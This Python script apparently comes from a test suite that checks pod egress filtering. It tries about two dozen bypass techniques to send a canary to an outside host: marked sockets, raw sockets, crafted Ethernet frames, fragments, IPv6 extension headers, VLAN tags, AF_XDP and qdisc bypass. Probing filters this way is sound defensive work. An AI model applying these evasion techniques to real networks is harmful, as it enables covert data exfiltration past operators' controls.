"""What a process in an enrolled pod tries, as a script of its own: run inside the pod with the capabilities under test.

    attacker.py NAME JSON       parameters: pod, far, port, canary, mac (of the gateway), own_mac

Each attack puts the canary into a TCP segment for far:port. Prints JSON: `{"did": true}`, or `{"refused": "EPERM"}`
where the kernel did not let it. At the end a datagram with the canary backwards shows that all of it has left.
"""

import contextlib
import ctypes
import errno
import ipaddress
import json
import mmap
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

SO_MARK, IPV6_RTHDR, IP_OPTIONS = 36, 57, 4
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
AF_XDP, SOL_XDP, XDP_COPY, XDP_PGOFF_TX_RING = 44, 283, 2, 0x80000000
XDP_MMAP_OFFSETS, XDP_TX_RING, XDP_UMEM_REG, XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING = 1, 3, 4, 5, 6
ETH_IP, ETH_IP6, ETH_ARP, ETH_VLAN, ETH_QINQ = 0x0800, 0x86DD, 0x0806, 0x8100, 0x88A8

P: dict[str, Any] = {}


def six() -> bool:
    return ":" in str(P["far"])


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def segment(
    flags: int = 0x18, payload: bytes | None = None, source_port: int = 45678, sequence: int = 1, ack: int = 1
) -> bytes:
    """A TCP segment with a right checksum. Flags: 0x18 PSH|ACK, 2 SYN, 0x14 RST|ACK."""
    data = P["canary"].encode() if payload is None else payload
    body = struct.pack("!HHIIBBHHH", source_port, P["port"], sequence, ack, 5 << 4, flags, 512, 0, 0) + data
    ends = ipaddress.ip_address(P["pod"]).packed + ipaddress.ip_address(P["far"]).packed
    pseudo = ends + (struct.pack("!II", len(body), 6) if six() else struct.pack("!BBH", 0, 6, len(body)))
    return body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:]


def ip4(body: bytes, fragment: int = 0) -> bytes:
    ends = ipaddress.ip_address(P["pod"]).packed + ipaddress.ip_address(P["far"]).packed
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, fragment, 64, 6, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def ip6(body: bytes, following: int = 6) -> bytes:
    ends = ipaddress.ip_address(P["pod"]).packed + ipaddress.ip_address(P["far"]).packed
    return struct.pack("!IHBB", 6 << 28, len(body), following, 64) + ends + body


def packet(body: bytes) -> bytes:
    return ip6(body) if six() else ip4(body)


def ether(body: bytes, kind: int | None = None) -> bytes:
    mac, own = bytes.fromhex(P["mac"].replace(":", "")), bytes.fromhex(P["own_mac"].replace(":", ""))
    return mac + own + struct.pack("!H", (ETH_IP6 if six() else ETH_IP) if kind is None else kind) + body


def frames(*sent: bytes, protocol: int = 3, bypass: bool = False) -> None:
    """Sends frames by a packet socket. `protocol`: what it claims that they are (3: all)."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as raw:
        if bypass:
            raw.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        for frame in sent:
            raw.sendto(frame, ("eth0", protocol))


@contextlib.contextmanager
def stream() -> Iterator[socket.socket]:
    with socket.socket(socket.AF_INET6 if six() else socket.AF_INET) as made:
        made.settimeout(3)
        yield made


def talk(made: socket.socket) -> None:
    """Connects and sends. That nobody answers is not the attacker's loss."""
    with contextlib.suppress(TimeoutError, ConnectionError):
        made.connect((P["far"], P["port"]))
        made.sendall(P["canary"].encode())


def plain() -> None:
    with stream() as made:
        talk(made)


def mark(value: int) -> Callable[[], None]:
    def attack() -> None:
        with stream() as made:
            made.setsockopt(socket.SOL_SOCKET, SO_MARK, value)
            talk(made)

    return attack


def bound_to_device() -> None:
    with stream() as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        talk(made)


def fast_open() -> None:
    """Data in the SYN."""
    with stream() as made, contextlib.suppress(TimeoutError, ConnectionError, BlockingIOError):
        made.settimeout(None)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 3, 0))
        made.sendto(P["canary"].encode(), socket.MSG_FASTOPEN, (P["far"], P["port"]))


def ip_options() -> None:
    """A header that is longer than usual: IPv4 options, or an IPv6 routing header (type 4, one segment)."""
    with stream() as made:
        if six():
            header = struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + ipaddress.ip_address(P["far"]).packed
            made.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
        else:
            made.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, b"\x01\x01\x01\x01\x01\x01\x01\x00")
        talk(made)


def raw_socket() -> None:
    """A TCP segment by a raw socket."""
    with socket.socket(socket.AF_INET6 if six() else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        raw.sendto(segment(), (P["far"], 0))


def raw_marked() -> None:
    with socket.socket(socket.AF_INET6 if six() else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        raw.setsockopt(socket.SOL_SOCKET, SO_MARK, 0x539)
        raw.sendto(segment(), (P["far"], 0))


def rst_with_data() -> None:
    frames(ether(packet(segment(0x14))))


def fragments() -> None:
    whole = segment() + P["canary"].encode() * 4
    cut = 24
    if six():

        def part(offset: int, more: int, data: bytes) -> bytes:
            return ip6(struct.pack("!BBHI", 6, 0, offset | more, 99) + data, 44)

        frames(ether(part(0, 1, whole[:cut])), ether(part(cut, 0, whole[cut:])))
    else:
        frames(ether(ip4(whole[:cut], 0x2000)), ether(ip4(whole[cut:], cut // 8)))


def extension(kind: int) -> Callable[[], None]:
    """An extension header (hop by hop, routing, destination options, or one that nobody knows) before TCP."""

    def attack() -> None:
        header = bytes([6, 0, 1, 4, 0, 0, 0, 0])  # PadN
        frames(ether(ip6(header + segment(), kind)))

    return attack


def many_extensions() -> None:
    header = bytes([60, 0, 1, 4, 0, 0, 0, 0])
    frames(ether(ip6(header * 11 + bytes([6]) + header[1:] + segment(), 60)))


def vlan() -> None:
    inner = struct.pack("!HH", 5, ETH_IP6 if six() else ETH_IP) + packet(segment())
    frames(ether(inner, ETH_VLAN))


def vlan_twice() -> None:
    inner = struct.pack("!HHHH", 5, ETH_VLAN, 6, ETH_IP6 if six() else ETH_IP) + packet(segment())
    frames(ether(inner, ETH_QINQ))


def af_xdp() -> None:
    """A frame by an XDP socket in copy mode, which needs no program: the driver's transmit, past every qdisc."""
    chunk, entries = 4096, 8
    frame = ether(packet(segment()))
    libc = ctypes.CDLL(None, use_errno=True)
    with socket.socket(AF_XDP, socket.SOCK_RAW, 0) as xsk, mmap.mmap(-1, chunk * entries) as memory:
        # linux/if_xdp.h: xdp_umem_reg (as long as 5.15 knows it), the rings, where they are, sockaddr_xdp, xdp_desc.
        area = ctypes.c_char.from_buffer(memory)
        where = ctypes.addressof(area)
        del area  # or the mapping could not be closed
        xsk.setsockopt(SOL_XDP, XDP_UMEM_REG, struct.pack("QQIII4x", where, len(memory), chunk, 0, 0))
        for ring in (XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING, XDP_TX_RING):
            xsk.setsockopt(SOL_XDP, ring, entries)
        offsets = struct.unpack("16Q", xsk.getsockopt(SOL_XDP, XDP_MMAP_OFFSETS, 128))
        producer, _, first, _ = offsets[4:8]
        with mmap.mmap(xsk.fileno(), first + entries * 16, offset=XDP_PGOFF_TX_RING) as ring_memory:
            name = struct.pack("HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex("eth0"), 0, 0)
            if libc.bind(xsk.fileno(), name, len(name)) != 0:
                raise OSError(ctypes.get_errno(), "bind")
            memory[: len(frame)] = frame
            ring_memory[first : first + 16] = struct.pack("QII", 0, len(frame), 0)
            ring_memory[producer : producer + 4] = struct.pack("I", 1)
            if libc.sendto(xsk.fileno(), None, 0, socket.MSG_DONTWAIT, None, 0) < 0:
                raise OSError(ctypes.get_errno(), "sendto")


ATTACKS: dict[str, Callable[[], None]] = {
    "plain": plain,
    "mark-0x111": mark(0x111),
    "mark-0x539": mark(0x539),
    "mark-0x400": mark(0x400),
    "bound-to-device": bound_to_device,
    "fast-open": fast_open,
    "ip-options": ip_options,
    "raw-socket": raw_socket,
    "raw-marked": raw_marked,
    "frame": lambda: frames(ether(packet(segment()))),
    "frame-syn": lambda: frames(ether(packet(segment(2)))),
    "frame-rst": rst_with_data,
    "frame-says-arp": lambda: frames(ether(packet(segment())), protocol=ETH_ARP),
    "fragments": fragments,
    "hop-by-hop": extension(0),
    "routing": extension(43),
    "destination-options": extension(60),
    "unknown-extension": extension(253),
    "many-extensions": many_extensions,
    "vlan": vlan,
    "vlan-twice": vlan_twice,
    "af-xdp": af_xdp,
    "qdisc-bypass": lambda: frames(ether(packet(segment())), bypass=True),
}


def main() -> None:
    global P
    P = json.loads(sys.argv[2])
    said: dict[str, object] = {"did": True}
    try:
        ATTACKS[sys.argv[1]]()
    except OSError as err:
        said = {"refused": errno.errorcode.get(err.errno or 0, str(err))}
    with socket.socket(socket.AF_INET6 if six() else socket.AF_INET, socket.SOCK_DGRAM) as last:
        for _ in range(3):
            last.sendto(b"end-" + P["canary"][::-1].encode(), (P["far"], 9))
            time.sleep(0.01)
    print(json.dumps(said))


if __name__ == "__main__":
    main()
